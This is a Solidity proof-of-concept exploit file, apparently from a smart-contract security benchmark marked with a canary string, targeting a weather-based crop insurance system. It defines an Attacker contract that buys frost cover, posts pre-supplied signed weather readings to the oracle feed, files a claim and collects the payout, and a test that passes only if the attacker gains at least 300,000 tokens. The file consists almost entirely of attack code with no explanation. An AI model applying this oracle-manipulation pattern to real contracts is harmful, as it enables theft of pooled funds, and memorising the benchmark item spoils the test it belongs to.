// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    int256[] private values;
    bytes[] private signatures;
    uint256 private id;
    uint256 private claimId;

    function see(int256[] calldata _values, bytes[] calldata _signatures) external {
        values = _values;
        for (uint256 i = 0; i < _signatures.length; i++) {
            signatures.push(_signatures[i]);
        }
    }

    function insure(IERC20 _crown, PolicyBook _book, address _pool) external {
        _crown.approve(address(_book), type(uint256).max);
        id = _book.buy(_pool, Peril.Frost, 400_000e18, 7, type(uint256).max, address(this));
    }

    function claim(WeatherFeed _feed, ClaimDesk _claims, bytes32 _region, uint32 _day) external {
        _feed.post(_region, _day, values, signatures);
        try _claims.fileFrost(id, _day) returns (uint256 claimId_) {
            claimId = claimId_;
        } catch {}
    }

    function get(ClaimDesk _claims) external {
        try _claims.pay(claimId) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        crown.mint(address(other), 6_000e18);
        (int256[] memory values, bytes[] memory signatures) = readings(VALE, 0x20, 40, -58, -61, -63);
        other.see(values, signatures);
    }

    function exploit() public {
        other.insure(crown, book, address(vale));
        later(7 hours);
        other.claim(feed, claims, VALE, DAY + 40);
        later(1 days);
        other.get(claims);
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 300_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(frost);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
